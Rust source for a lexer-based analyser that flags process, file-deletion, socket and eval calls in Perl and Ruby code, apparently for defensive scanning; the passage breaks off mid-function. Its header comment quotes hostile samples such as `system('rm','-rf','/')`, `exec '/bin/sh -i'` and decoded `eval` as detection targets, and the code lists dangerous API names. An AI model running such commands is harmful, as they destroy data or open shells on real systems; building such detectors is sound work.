//! Perl and Ruby, read by a small lexer at the level of their process, deletion, write,
//! socket and `eval` calls: no grammar, but strings (quote-like operators, `%w()`,
//! here-documents, interpolation), comments and regular expressions are told apart from
//! code, so `system("rm","-rf","/")`, `unlink glob("~/*")`, `exec "/bin/sh -i"`,
//! `IO::Socket::INET->new(PeerAddr => "h:p")`, `TCPSocket.open(h, p)`,
//! `FileUtils.rm_rf(d)` and `eval(decode_base64("…"))` are read from their tokens, with
//! scalar assignments (`my $h = "10.0.0.1";`) carried to where they are used. An
//! unterminated string or quote is a syntax error, and the code fails closed.

use super::decode::{Encoding, decode};
use super::{Facts, Lang, Origin, Scope, UNKNOWN, Value, concat, format_percent};

/// Tokens read per program; more is an error.
const MAX_TOKENS: usize = 16 * 1024;
/// Bracket depth followed.
const MAX_BRACKETS: usize = 128;

/// Which language the lexer reads.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Dialect {
    Perl,
    Ruby,
}

/// A piece of a double-quoted string.
#[derive(Clone, Debug, PartialEq)]
enum Part {
    Lit(String),
    /// `$x`, `#{x}`: a variable's value.
    Var(String),
    /// Something else interpolated.
    Code,
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Ident(String),
    Var(String),
    Str(Vec<Part>),
    Words(Vec<String>),
    /// Backticks, `qx`, `%x`: a command line whose output is used.
    Cmd(Vec<Part>),
    Num(i64),
    Punct(String),
}

pub(super) fn analyse(code: &str, d: Dialect, depth: usize, f: &mut Facts) {
    let toks = match lex(code, d) {
        Ok(t) => t,
        Err(e) => {
            f.errors.push(format!("{d:?} {e}"));
            return;
        }
    };
    let mut r = Reader {
        toks: &toks,
        d,
        scope: Scope::default(),
        f,
        depth,
        network: false,
    };
    r.scan();
}

// ─── Lexer ───────────────────────────────────────────────────────────────────

fn closing(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        c => c,
    }
}

struct Lexer<'a> {
    s: &'a [char],
    i: usize,
    d: Dialect,
    out: Vec<Tok>,
    /// Here-document bodies already taken: skipped when the lexer reaches them.
    skip: Vec<(usize, usize)>,
}

fn lex(code: &str, d: Dialect) -> Result<Vec<Tok>, String> {
    let chars: Vec<char> = code.chars().collect();
    let mut l = Lexer {
        s: &chars,
        i: 0,
        d,
        out: Vec::new(),
        skip: Vec::new(),
    };
    l.run()?;
    Ok(l.out)
}

impl Lexer<'_> {
    fn peek(&self, k: usize) -> Option<char> {
        self.s.get(self.i + k).copied()
    }

    fn push(&mut self, t: Tok) -> Result<(), String> {
        if self.out.len() >= MAX_TOKENS {
            return Err(format!("code has more than {MAX_TOKENS} tokens"));
        }
        self.out.push(t);
        Ok(())
    }

    fn punct(&mut self, p: &str) -> Result<(), String> {
        self.push(Tok::Punct(p.to_string()))
    }

    /// Whether a term (not an operator) is expected: a `/` there opens a regex.
    fn term_expected(&self) -> bool {
        match self.out.last() {
            None => true,
            Some(Tok::Punct(p)) => !matches!(p.as_str(), ")" | "]" | "}"),
            Some(Tok::Ident(w)) => matches!(
                w.as_str(),
                "split"
                    | "grep"
                    | "if"
                    | "unless"
                    | "and"
                    | "or"
                    | "not"
                    | "return"
                    | "when"
                    | "while"
                    | "until"
                    | "map"
                    | "puts"
                    | "print"
                    | "scan"
                    | "match"
                    | "sub"
                    | "gsub"
            ),
            _ => false,
        }
    }

    fn run(&mut self) -> Result<(), String> {
        while self.i < self.s.len() {
            if let Some(&(_, end)) = self.skip.iter().find(|(s, _)| *s == self.i) {
                self.i = end;
                continue;
            }
            let c = self.s[self.i];
            match c {
                '\n' => {
                    // Ruby ends a statement at a newline; the reader needs to know.
                    if self.d == Dialect::Ruby {
                        self.punct("\n")?;
                    }
                    self.i += 1;
                }
                c if c.is_whitespace() => self.i += 1,
                '#' => {
                    while self.i < self.s.len() && self.s[self.i] != '\n' {
                        self.i += 1;
                    }
                }
                '\'' => {
                    self.i += 1;
                    let t = self.single('\'')?;
                    self.push(Tok::Str(vec![Part::Lit(t)]))?;
                }
                '"' => {
                    self.i += 1;
                    let p = self.double('"')?;
                    self.push(Tok::Str(p))?;
                }
                '`' => {
                    self.i += 1;
                    let p = self.double('`')?;
                    self.push(Tok::Cmd(p))?;
                }
                '/' if self.term_expected() => {
                    self.i += 1;
                    self.skip_delimited('/')?;
                }
                '<' if self.peek(1) == Some('<') && self.heredoc()? => {}
                '%' if self.d == Dialect::Ruby && self.percent()? => {}
                '$' | '@' | '%' | '&' if self.var_start() => self.var()?,
                c if c.is_ascii_digit() => self.number()?,
                c if c.is_alphabetic() || c == '_' => self.word()?,
                ':' if self.d == Dialect::Ruby
                    && self.peek(1).is_some_and(|c| c.is_alphabetic() || c == '_') =>
                {
                    // A symbol: `send(:system, …)` names a method with it.
                    self.i += 1;
                    let w = self.ident();
                    self.push(Tok::Str(vec![Part::Lit(w)]))?;
                }
                _ => {
                    let two: String = self.s[self.i..(self.i + 2).min(self.s.len())]
                        .iter()
                        .collect();
                    if matches!(
                        two.as_str(),
                        "::" | "->" | "=>" | "==" | "=~" | "!~" | "&&" | "||" | "<<" | "**"
                    ) {
                        self.i += 2;
                        self.punct(&two)?;
                    } else {
                        self.i += 1;
                        self.punct(&c.to_string())?;
                    }
                }
            }
        }
        Ok(())
    }

    fn ident(&mut self) -> String {
        let mut w = String::new();
        while let Some(c) = self.peek(0) {
            if c.is_alphanumeric() || c == '_' {
                w.push(c);
                self.i += 1;
            } else if c == ':'
                && self.peek(1) == Some(':')
                && self.peek(2).is_some_and(|c| c.is_alphabetic() || c == '_')
            {
                w.push_str("::");
                self.i += 2;
            } else {
                break;
            }
        }
        if self.d == Dialect::Ruby
            && matches!(self.peek(0), Some('?' | '!'))
            && self.peek(1) != Some('=')
        {
            if let Some(c) = self.peek(0) {
                w.push(c);
            }
            self.i += 1;
        }
        w
    }

    fn var_start(&self) -> bool {
        let c = self.s[self.i];
        let next = self.peek(1);
        match c {
            '$' => next.is_some_and(|n| {
                n.is_alphanumeric() || matches!(n, '_' | '{' | ':' | '!' | '@' | '0' | '#')
            }),
            '@' => next.is_some_and(|n| n.is_alphabetic() || n == '_' || n == '@'),
            // `%h` and `&f` in Perl; in Ruby `%` is handled as a literal or an operator.
            '%' | '&' => {
                self.d == Dialect::Perl
                    && self.term_expected()
                    && next.is_some_and(|n| n.is_alphabetic() || n == '_')
            }
            _ => false,
        }
    }

    fn var(&mut self) -> Result<(), String> {
        let sigil = self.s[self.i];
        self.i += 1;
        while matches!(self.peek(0), Some('@' | '#')) && sigil != '%' {
            self.i += 1;
        }
        let name = if self.peek(0) == Some('{') {
            self.i += 1;
            let inner = self.single('}')?;
            inner.trim().to_string()
        } else if self
            .peek(0)
            .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == ':')
        {
            self.ident()
        } else {
            let c = self.peek(0).map(String::from).unwrap_or_default();
            self.i += 1;
            c
        };
        self.push(Tok::Var(format!("{sigil}{name}")))
    }

    fn number(&mut self) -> Result<(), String> {
        let mut w = String::new();
        while let Some(c) = self.peek(0) {
            if c.is_alphanumeric()
                || c == '_'
                || c == '.' && self.peek(1).is_some_and(|d| d.is_ascii_digit())
            {
                w.push(c);
                self.i += 1;
            } else {
                break;
            }
        }
        let w = w.replace('_', "").to_ascii_lowercase();
        let n = if let Some(x) = w.strip_prefix("0x") {
            i64::from_str_radix(x, 16).ok()
        } else if let Some(o) = w.strip_prefix("0o") {
            i64::from_str_radix(o, 8).ok()
        } else if w.len() > 1 && w.starts_with('0') && w.bytes().all(|b| b.is_ascii_digit()) {
            i64::from_str_radix(&w[1..], 8).ok()
        } else {
            w.parse().ok()
        };
        match n {
            Some(n) => self.push(Tok::Num(n)),
            None => self.push(Tok::Punct("0".into())),
        }
    }

    fn word(&mut self) -> Result<(), String> {
        let w = self.ident();
        // Ruby `key:` in a call is a hash key.
        if self.d == Dialect::Ruby && self.peek(0) == Some(':') && self.peek(1) != Some(':') {
            self.i += 1;
            self.push(Tok::Str(vec![Part::Lit(w)]))?;
            return self.punct("=>");
        }
        if self.d == Dialect::Perl {
            // Quote-like operators.
            let mut j = self.i;
            while j < self.s.len() && self.s[j] == ' ' {
                j += 1;
            }
            let delim = self.s.get(j).copied();
            let is_delim = |c: Option<char>| {
                c.is_some_and(|c| {
                    !c.is_alphanumeric()
                        && !c.is_whitespace()
                        && !matches!(c, ',' | ';' | ')' | '=' | '_')
                })
            };
            if matches!(
                w.as_str(),
                "q" | "qq" | "qw" | "qx" | "m" | "qr" | "s" | "tr" | "y"
            ) && is_delim(delim)
            {
                let open = delim.unwrap_or('/');
                self.i = j + 1;
                let close = closing(open);
                match w.as_str() {
                    "q" => {
                        let t = self.single(close)?;
                        self.push(Tok::Str(vec![Part::Lit(t)]))?;
                    }
                    "qq" => {
                        let p = self.double(close)?;
                        self.push(Tok::Str(p))?;
                    }
                    "qx" => {
                        let p = self.double(close)?;
                        self.push(Tok::Cmd(p))?;
                    }
                    "qw" => {
                        let t = self.single(close)?;
                        self.push(Tok::Words(
                            t.split_whitespace().map(str::to_string).collect(),
                        ))?;
                    }
                    "m" | "qr" => self.skip_delimited(close)?,
                    _ => {
                        // s/…/…/ and tr/…/…/: two parts (bracketed ones may be spaced).
                        self.skip_delimited(close)?;
                        if open != close {
                            while self.peek(0).is_some_and(char::is_whitespace) {
                                self.i += 1;
                            }
                            let o2 = self.peek(0).unwrap_or('/');
                            self.i += 1;
                            self.skip_delimited(closing(o2))?;
                        } else {
                            self.skip_delimited(close)?;
                        }
                    }
                }
                return Ok(());
            }
        }
        if matches!(w.as_str(), "__END__" | "__DATA__") {
            self.i = self.s.len();
            return Ok(());
        }
        self.push(Tok::Ident(w))
    }

    /// Ruby `%w(…)`, `%q(…)`, `%Q(…)`, `%(…)`, `%x(…)`, `%r(…)`, `%i(…)`.
    fn percent(&mut self) -> Result<bool, String> {
        if !self.term_expected() && !matches!(self.out.last(), Some(Tok::Ident(_))) {
            return Ok(false);
        }
        let (kind, at) = match self.peek(1) {
            Some(k @ ('q' | 'Q' | 'w' | 'W' | 'i' | 'I' | 'x' | 'r' | 's')) => (k, 2),
            Some('(' | '[' | '{' | '<' | '|' | '!') => ('Q', 1),
            _ => return Ok(false),
        };
        let Some(open) = self
            .peek(at)
            .filter(|c| !c.is_alphanumeric() && !c.is_whitespace())
        else {
            return Ok(false);
        };
        self.i += at + 1;
        let close = closing(open);
        match kind {
            'q' | 's' => {
                let t = self.single(close)?;
                self.push(Tok::Str(vec![Part::Lit(t)]))
            }
            'Q' => {
                let p = self.double(close)?;
                self.push(Tok::Str(p))
            }
            'x' => {
                let p = self.double(close)?;
                self.push(Tok::Cmd(p))
            }
            'w' | 'W' | 'i' | 'I' => {
                let t = self.single(close)?;
                self.push(Tok::Words(
                    t.split_whitespace().map(str::to_string).collect(),
                ))
            }
            _ => self.skip_delimited(close),
        }
        .map(|()| true)
    }

    /// `<<"EOF"`, `<<'EOF'`, `<<EOF`, Ruby `<<~EOF` and `<<-EOF`: the body becomes a string.
    fn heredoc(&mut self) -> Result<bool, String> {
        let mut j = self.i + 2;
        let squiggly = matches!(self.s.get(j), Some('~' | '-'));
        if squiggly {
            j += 1;
        }
        let quote = self.s.get(j).copied().filter(|c| matches!(c, '"' | '\''));
        if quote.is_some() {
            j += 1;
        }
        let start = j;
        while j < self.s.len() && (self.s[j].is_alphanumeric() || self.s[j] == '_') {
            j += 1;
        }
        let tag: String = self.s[start..j].iter().collect();
        if tag.is_empty()
            || quote.is_none() && !tag.chars().all(|c| c.is_ascii_uppercase() || c == '_')
        {
            return Ok(false);
        }
        if let Some(q) = quote {
            if self.s.get(j) != Some(&q) {
                return Ok(false);
            }
            j += 1;
        }
        // The body starts after the current line (or after earlier bodies on it).
        let mut body_start = match self.s[j..].iter().position(|c| *c == '\n') {
            Some(p) => j + p + 1,
            None => return Err("here-document without a body".into()),
        };
        while let Some(&(_, e)) = self.skip.iter().find(|(s, _)| *s == body_start) {
            body_start = e;
        }
        let mut k = body_start;
        let mut body = String::new();
        let end = loop {
            if k >= self.s.len() {
                return Err(format!("here-document {tag} is not terminated"));
            }
            let line_end = self.s[k..]
                .iter()
                .position(|c| *c == '\n')
                .map_or(self.s.len(), |p| k + p);
            let line: String = self.s[k..line_end].iter().collect();
            let matches = if squiggly {
                line.trim() == tag
            } else {
                line == tag
            };
            if matches {
                break (line_end + 1).min(self.s.len());
            }
            body.push_str(&line);
            body.push('\n');
            k = line_end + 1;
        };
        self.skip.push((body_start, end));
        self.i = j;
        self.push(Tok::Str(vec![Part::Lit(body)]))?;
        Ok(true)
    }

    /// Skips to an unescaped `close` (a regex body).
    fn skip_delimited(&mut self, close: char) -> Result<(), String> {
        self.single(close).map(|_| ())
    }

    /// Text up to an unescaped `close`; only `\\` and `\close` are escapes (single quotes).
    fn single(&mut self, close: char) -> Result<String, String> {
        let open = match close {
            ')' => Some('('),
            ']' => Some('['),
            '}' => Some('{'),
            '>' => Some('<'),
            _ => None,
        };
        let mut depth = 0usize;
        let mut out = String::new();
        while let Some(c) = self.peek(0) {
            self.i += 1;
            if c == '\\' {
                match self.peek(0) {
                    Some(n) if n == close || n == '\\' || Some(n) == open => {
                        out.push(n);
                        self.i += 1;
                    }
                    _ => out.push('\\'),
                }
                continue;
            }
            if Some(c) == open {
                depth += 1;
                if depth > MAX_BRACKETS {
                    return Err("brackets nested too deep".into());
                }
            } else if c == close {
                if depth == 0 {
                    return Ok(out);
                }
                depth -= 1;
            }
            out.push(c);
        }
        Err(format!("unterminated string (expected {close:?})"))
    }

    /// A double-quoted string with its interpolations.
    fn double(&mut self, close: char) -> Result<Vec<Part>, String> {
        let mut parts = Vec::new();
        let mut lit = String::new();
        while let Some(c) = self.peek(0) {
            self.i += 1;
            match c {
                '\\' => {
                    let Some(e) = self.peek(0) else { break };
                    self.i += 1;
                    match e {
                        'n' => lit.push('\n'),
                        't' => lit.push('\t'),
                        'e' => lit.push('\x1b'),
                        '0' => lit.push('\0'),
                        'x' => {
                            let h: String = (0..2)
                                .filter_map(|_| {
                                    let c = self.peek(0).filter(char::is_ascii_hexdigit)?;
                                    self.i += 1;
                                    Some(c)
                                })
                                .collect();
                            lit.extend(u32::from_str_radix(&h, 16).ok().and_then(char::from_u32));
                        }
                        other => lit.push(other),
                    }
                }
                c if c == close => {
                    if !lit.is_empty() {
                        parts.push(Part::Lit(lit));
                    }
                    return Ok(parts);
                }
                '#' if self.d == Dialect::Ruby && self.peek(0) == Some('{') => {
                    self.i += 1;
                    let inner = self.single('}')?;
                    if !lit.is_empty() {
                        parts.push(Part::Lit(std::mem::take(&mut lit)));
                    }
                    let inner = inner.trim();
                    if !inner.is_empty()
                        && inner
                            .chars()
                            .all(|c| c.is_alphanumeric() || matches!(c, '_' | '@' | '$'))
                    {
                        parts.push(Part::Var(inner.to_string()));
                    } else {
                        parts.push(Part::Code);
                    }
                }
                '$' | '@'
                    if self.d == Dialect::Perl
                        && self
                            .peek(0)
                            .is_some_and(|n| n.is_alphabetic() || matches!(n, '_' | '{')) =>
                {
                    if !lit.is_empty() {
                        parts.push(Part::Lit(std::mem::take(&mut lit)));
                    }
                    let name = if self.peek(0) == Some('{') {
                        self.i += 1;
                        self.single('}')?
                    } else {
                        let mut w = String::new();
                        while let Some(n) = self.peek(0) {
                            if n.is_alphanumeric() || n == '_' {
                                w.push(n);
                                self.i += 1;
                            } else {
                                break;
                            }
                        }
                        w
                    };
                    // `$h{…}`, `$a[…]`, `$o->…` are elements: unknown.
                    if matches!(self.peek(0), Some('[' | '{'))
                        || self.peek(0) == Some('-') && self.peek(1) == Some('>')
                    {
                        parts.push(Part::Code);
                    } else {
                        parts.push(Part::Var(format!("{c}{name}")));
                    }
                }
                other => lit.push(other),
            }
        }
        Err(format!("unterminated string (expected {close:?})"))
    }
}

// ─── Reader ──────────────────────────────────────────────────────────────────

struct Reader<'t, 'f> {
    toks: &'t [Tok],
    d: Dialect,
    scope: Scope,
    f: &'f mut Facts,
    depth: usize,
    /// A network library is loaded: URL literals are requests.
    network: bool,
}

fn is_punct(t: Option<&Tok>, p: &str) -> bool {
    matches!(t, Some(Tok::Punct(x)) if x == p)
}

impl Reader<'_, '_> {
    fn lang(&self) -> Lang {
        match self.d {
            Dialect::Perl => Lang::Perl,
            Dialect::Ruby => Lang::Ruby,
        }
    }

    fn scan(&mut self) {
        let toks = self.toks;
        for (i, t) in toks.iter().enumerate() {
            match t {
                Tok::Ident(w) => {
                    let prev = if i > 0 { toks.get(i - 1) } else { None };
                    if matches!(w.as_str(), "use" | "require") || w == "import" {
                        self.module(toks.get(i + 1));
                        continue;
                    }
                    if is_punct(prev, ".") || is_punct(prev, "->") || is_punct(prev, "::") {
                        continue;
                    }
                    // `x = …` (Ruby locals).
                    if self.d == Dialect::Ruby && is_punct(toks.get(i + 1), "=") {
                        let end = self.statement_end(i + 2);
                        let v = self.expr(i + 2, end);
                        self.scope.set(w, v);
                        continue;
                    }
                    self.call_at(i);
                }
                Tok::Var(v) if is_punct(toks.get(i + 1), "=") => {
                    let end = self.statement_end(i + 2);
                    let val = self.expr(i + 2, end);
                    self.scope.set(v, val);
                }
                Tok::Cmd(parts) => {
                    let v = self.interpolate(parts);
                    self.f.shell(v);
                }
                Tok::Str(parts) if self.network => {
                    if let Some(url) = self.interpolate(parts).known()
                        && (url.starts_with("http://") || url.starts_with("https://"))
                    {
                        self.f.request(Value::str(url));
                    }
                }
                _ => {}
            }
        }
    }

    fn module(&mut self, next: Option<&Tok>) {
        let name = match next {
            Some(Tok::Ident(m)) => m.clone(),
            Some(Tok::Str(p)) => self.interpolate(p).known().unwrap_or_default(),
            _ => return,
        };
        let base = name.split("::").next().unwrap_or(&name);
        if matches!(
            base,
            "Socket" | "IO" | "socket" | "open3" | "Open3" | "pty" | "PTY" | "IPC" | "POSIX"
        ) {
            self.f.process_module = true;
        }
        if matches!(base, "LWP" | "HTTP" | "Net" | "net" | "open-uri" | "IO") {
            self.network = true;
        }
    }

    /// Where the statement starting at `from` ends (exclusive).
    fn statement_end(&self, from: usize) -> usize {
        let mut depth = 0i32;
        let mut k = from;
        while k < self.toks.len() {
            if let Tok::Punct(p) = &self.toks[k] {
                match p.as_str() {
                    "(" | "[" | "{" => depth += 1,
                    ")" | "]" | "}" => {
                        if depth == 0 {
                            return k;
                        }
                        depth -= 1;
                    }
                    ";" if depth == 0 => return k,
                    "\n" if depth == 0 => return k,
                    _ => {}
                }
            }
            if depth == 0
                && let Tok::Ident(w) = &self.toks[k]
                && matches!(
                    w.as_str(),
                    "if" | "unless" | "or" | "and" | "while" | "until" | "do"
                )
                && k > from
            {
                return k;
            }
            k += 1;
        }
        k
    }

    /// The index of the bracket closing the one at `open`.
    fn matching(&self, open: usize) -> usize {
        let mut depth = 0i32;
        for (k, t) in self.toks.iter().enumerate().skip(open) {
            if let Tok::Punct(p) = t {
                match p.as_str() {
                    "(" | "[" | "{" => depth += 1,
                    ")" | "]" | "}" => {
                        depth -= 1;
                        if depth == 0 {
                            return k;
                        }
                    }
                    _ => {}
                }
            }
        }
        self.toks.len()
    }

    /// A dotted or arrowed name starting at `i` (`FileUtils.rm_rf`, `IO::Socket::INET->new`),
    /// and the index after it.
    fn name_at(&self, i: usize) -> (String, usize) {
        let mut name = match &self.toks[i] {
            Tok::Ident(w) => w.clone(),
            _ => String::new(),
        };
        let mut k = i + 1;
        while k + 1 < self.toks.len() {
            match (&self.toks[k], &self.toks[k + 1]) {
                (Tok::Punct(p), Tok::Ident(w)) if p == "." || p == "->" => {
                    name.push_str(p);
                    name.push_str(w);
                    k += 2;
                }
                _ => break,
            }
        }
        (name, k)
    }

    /// Arguments of a call whose name ends before `k`: in brackets, or up to the end of the
    /// statement. Returns them and the index after them.
    fn args_at(&mut self, k: usize) -> (Vec<Value>, usize, bool) {
        if is_punct(self.toks.get(k), "(") {
            let close = self.matching(k);
            (self.list(k + 1, close), close + 1, true)
        } else if is_punct(self.toks.get(k), "{")
            || matches!(self.toks.get(k), Some(Tok::Ident(w)) if w == "do")
        {
            // A block (`eval { … }`, `instance_eval do … end`): no arguments.
            (Vec::new(), k, false)
        } else {
            let end = self.statement_end(k);
            (self.list(k, end), end, end > k)
        }
    }

    /// Comma-separated values in `toks[from..to]`.
    fn list(&mut self, from: usize, to: usize) -> Vec<Value> {
        let toks = self.toks;
        let mut out = Vec::new();
        let mut start = from;
        let mut depth = 0i32;
        for (k, t) in toks.iter().enumerate().take(to).skip(from) {
            if let Tok::Punct(p) = t {
                match p.as_str() {
                    "(" | "[" | "{" => depth += 1,
                    ")" | "]" | "}" => depth -= 1,
                    "," | "=>" if depth == 0 => {
                        if k > start {
                            out.push(self.expr(start, k));
                        }
                        start = k + 1;
                    }
                    _ => {}
                }
            }
        }
        if to > start {
            out.push(self.expr(start, to));
        }
        // A list or `qw` spreads into the arguments.
        let mut flat = Vec::new();
        for v in out {
            match v {
                Value::List(items) if self.d == Dialect::Perl => flat.extend(items),
                other => flat.push(other),
            }
        }
        flat
    }

    fn interpolate(&self, parts: &[Part]) -> Value {
        let vals: Vec<Value> = parts
            .iter()
            .map(|p| match p {
                Part::Lit(s) => Value::str(s.clone()),
                Part::Var(v) => self.lookup(v),
                Part::Code => Value::unknown(),
            })
            .collect();
        if vals.is_empty() {
            return Value::str("");
        }
        concat(&vals)
    }

    fn lookup(&self, v: &str) -> Value {
        if let Some(x) = self.scope.get(v) {
            return x.clone();
        }
        // Perl interpolates `@a` as well as `$a`.
        let bare = v.trim_start_matches(['$', '@']);
        for sigil in ["$", "@", ""] {
            if let Some(x) = self.scope.get(&format!("{sigil}{bare}")) {
                return x.clone();
            }
        }
        Value::unknown()
    }

    /// The value of `toks[from..to]`.
    fn expr(&mut self, from: usize, to: usize) -> Value {
        let toks = self.toks;
        let to = to.min(toks.len());
        if from >= to {
            return Value::unknown();
        }
        // Concatenation: Perl `.`, Ruby `+`.
        let cat = if self.d == Dialect::Perl { "." } else { "+" };
        let mut depth = 0i32;
        let mut pieces = Vec::new();
        let mut start = from;
        for (k, t) in toks.iter().enumerate().take(to).skip(from) {
            if let Tok::Punct(p) = t {
                match p.as_str() {
                    "(" | "[" | "{" => depth += 1,
                    ")" | "]" | "}" => depth -= 1,
                    p if p == cat && depth == 0 && k > start => {
                        pieces.push((start, k));
                        start = k + 1;
                    }
                    _ => {}
                }
            }
        }
        if pieces.is_empty() {
            return self.primary(from, to);
        }
        pieces.push((start, to));
        let vals: Vec<Value> = pieces
            .into_iter()
            .map(|(a, b)| self.primary(a, b))
            .collect();
        concat(&vals)
    }

    fn primary(&mut self, from: usize, to: usize) -> Value {
        let toks = self.toks;
        let Some(first) = toks.get(from) else {
            return Value::unknown();
        };
        let (mut v, mut k) = match first {
            Tok::Str(p) => (self.interpolate(p), from + 1),
            Tok::Words(w) => (
                Value::List(w.iter().cloned().map(Value::str).collect()),
                from + 1,
            ),
            Tok::Num(n) => (Value::Num(*n), from + 1),
            Tok::Var(name) => (self.lookup(name), from + 1),
            Tok::Cmd(_) => (Value::unknown(), from + 1),
            Tok::Punct(p) if p == "(" || p == "[" => {
                let close = self.matching(from).min(to);
                let items = self.list(from + 1, close);
                let v = if p == "(" && items.len() == 1 {
                    items.into_iter().next().unwrap_or_else(Value::unknown)
                } else {
                    Value::List(items)
                };
                (v, close + 1)
            }
            Tok::Ident(_) => {
                let (name, after) = self.name_at(from);
                if let (Some(v), false) = (self.scope.get(&name), is_punct(toks.get(after), "(")) {
                    // A Ruby local (`f = …; exec … f`).
                    (v.clone(), after)
                } else if !is_punct(toks.get(after), "(") && after >= to {
                    // A bareword (`PeerAddr =>`) or a call without arguments.
                    match self.call(&name, Vec::new(), false) {
                        Some(v) => (v, after),
                        None => (Value::str(name), after),
                    }
                } else {
                    let (args, next) = if is_punct(self.toks.get(after), "(") {
                        let close = self.matching(after).min(to);
                        (self.list(after + 1, close), close + 1)
                    } else {
                        (self.list(after, to), to)
                    };
                    let v = self.call(&name, args, true).unwrap_or_else(Value::unknown);
                    (v, next)
                }
            }
            _ => return Value::unknown(),
        };
        // Method chains on a value: `"…".unpack1("m")`, `[…].pack("H*")`, `->reverse`.
        while k + 1 < to {
            let (Tok::Punct(p), Tok::Ident(m)) = (&toks[k], &toks[k + 1]) else {
                break;
            };
            if p != "." && p != "->" {
                break;
            }
            let m = m.clone();
            k += 2;
            let args = if is_punct(self.toks.get(k), "(") {
                let close = self.matching(k).min(to);
                let a = self.list(k + 1, close);
                k = close + 1;
                a
            } else {
                Vec::new()
            };
            v = self.value_method(v, &m, &args);
        }
        v
    }

    fn value_method(&mut self, v: Value, m: &str, args: &[Value]) -> Value {
        let fmt = args.first().and_then(Value::known).unwrap_or_default();
        match m {
            "unpack1" | "unpack" if fmt.starts_with('m') => decode(&v, Encoding::Base64),
            "unpack1" | "unpack" => Value::Unknown(Origin::Decoded),
            "pack" if fmt.starts_with('H') => {
                let inner = match v {
                    Value::List(items) => items.into_iter().next().unwrap_or_else(Value::unknown),
                    other => other,
                };
                decode(&inner, Encoding::Hex)
            }
            "pack" => Value::Unknown(Origin::Decoded),
            "reverse" => match v {
                Value::Str { text, known } => Value::Str {
                    text: text.chars().rev().collect(),
                    known,
                },
                other => other,
            },
            "to_s" | "to_str" | "strip" | "chomp" | "join" if m != "join" || args.is_empty() => {
                match v {
                    Value::List(items) if m == "join" => concat(&items),
                    other => other,
                }
            }
            "join" => match v {
                Value::List(items) => {
                    let sep = args.first().map(Value::render).unwrap_or_default();
                    let mut parts = Vec::new();
                    for (i, it) in items.into_iter().enumerate() {
                        if i > 0 {
                            parts.push(Value::str(sep.clone()));
                        }
                        parts.push(it);
                    }
                    concat(&parts)
                }
                other => Value::Unknown(other.origin()),
            },
            "read" | "gets" | "recv" | "readlines" => match v {
                Value::Inst("socket", _) => Value::Unknown(Origin::Net),
                Value::Unknown(o) => Value::Unknown(o),
                _ => Value::unknown(),
            },
            "body" => Value::Unknown(Origin::Fetched),
            "fileno" | "to_i" => Value::unknown(),
            _ => Value::Unknown(v.origin()),
        }
    }

    /// A call found while scanning at `i`.
    fn call_at(&mut self, i: usize) {
        let (name, after) = self.name_at(i);
        if !self.is_api(&name) {
            return;
        }
        let (args, _, given) = self.args_at(after);
        self.call(&name, args, given);
    }

    fn is_api(&self, name: &str) -> bool {
        let last = name.rsplit(['.', ':']).next().unwrap_or(name);
        matches!(
            last,
            "system"
                | "exec"
                | "spawn"
                | "popen"
                | "popen2"
                | "popen3"
                | "popen2e"
                | "capture2"
                | "capture2e"
                | "capture3"
                | "pipeline"
                | "open"
                | "unlink"
                | "rmdir"
                | "rmtree"
                | "remove_tree"
                | "rm_rf"
                | "rm_r"
                | "rm"
                | "rm_f"
                | "remove"
                | "remove_dir"
                | "remove_entry"
                | "remove_entry_secure"
                | "delete"
                | "rename"
                | "mv"
                | "chmod"
                | "chmod_R"
                | "chown"
                | "chown_R"
                | "symlink"
                | "new"
                | "connect"
                | "socket"
                | "tcp"
                | "eval"
                | "instance_eval"
                | "class_eval"
                | "module_eval"
                | "write"
                | "binwrite"
                | "fork"
                | "send"
                | "public_send"
                | "__send__"
                | "get"
                | "getstore"
                | "getprint"
                | "mirror"
                | "get_response"
                | "post_form"
                | "start"
                | "cp"
                | "cp_r"
                | "copy"
                | "truncate"
        )
    }

    /// A process, file, socket or eval call; `None` when `name` is none of those.
    fn call(&mut self, name: &str, args: Vec<Value>, given: bool) -> Option<Value> {
        let a = |i: usize| args.get(i).cloned().unwrap_or_else(Value::unknown);
        let f = &mut *self.f;
        let perl = self.d == Dialect::Perl;
        let bare = name
            .strip_prefix("Kernel.")
            .or_else(|| name.strip_prefix("Process."))
            .or_else(|| name.strip_prefix("CORE::"))
            .or_else(|| name.strip_prefix("POSIX::"))
            .unwrap_or(name);
        let v = match bare {
            "system" | "exec" | "spawn" | "IO.popen" | "Open3.popen3" | "Open3.popen2"
            | "Open3.popen2e" | "Open3.capture2" | "Open3.capture2e" | "Open3.capture3"
            | "Open3.pipeline" | "PTY.spawn" => {
                // Ruby takes an environment hash first; Perl `exec {prog} …` a block.
                let args: Vec<Value> = args
                    .into_iter()
                    .filter(|v| !matches!(v, Value::Obj(_)))
                    .collect();
                if !given && args.is_empty() {
                    return None;
                }
                match args.as_slice() {
                    [one @ Value::List(_)] => f.command(one.clone(), false),
                    [one] => f.shell(one.clone()),
                    [] => f.shell(Value::unknown()),
                    many => f.exec(many.to_vec()),
                }
                Value::unknown()
            }
            "open" if perl => {
                perl_open(f, &args);
                Value::unknown()
            }
            "File.open" | "File.new" | "IO.open" | "open" => {
                let path = a(0);
                match a(1).known() {
                    Some(m) if m.contains(['w', 'a', '+']) => f.write(path.clone()),
                    None if args.len() > 1 => f.write(path.clone()),
                    _ => {
                        // Ruby `open("|cmd")` runs a command.
                        match path.known() {
                            Some(p) if p.starts_with('|') => {
                                f.shell(Value::str(p.trim_start_matches('|')))
                            }
                            _ => f.read(path.clone()),
                        }
                    }
                }
                Value::Inst("file", Box::new(path))
            }
            "unlink"
            | "File.delete"
            | "File.unlink"
            | "FileUtils.rm"
            | "FileUtils.rm_f"
            | "FileUtils.remove"
            | "FileUtils.safe_unlink" => {
                for p in spread(args) {
                    f.as_command(&["rm", "-f"], vec![p]);
                }
                Value::unknown()
            }
            "rmdir" | "Dir.rmdir" | "Dir.delete" | "Dir.unlink" | "FileUtils.rmdir" => {
                for p in spread(args) {
                    f.as_command(&["rmdir"], vec![p]);
                }
                Value::unknown()
            }
            "rmtree"
            | "remove_tree"
            | "File::Path::rmtree"
            | "File::Path::remove_tree"
            | "FileUtils.rm_rf"
            | "FileUtils.rm_r"
            | "FileUtils.rmtree"
            | "FileUtils.remove_dir"
            | "FileUtils.remove_entry"
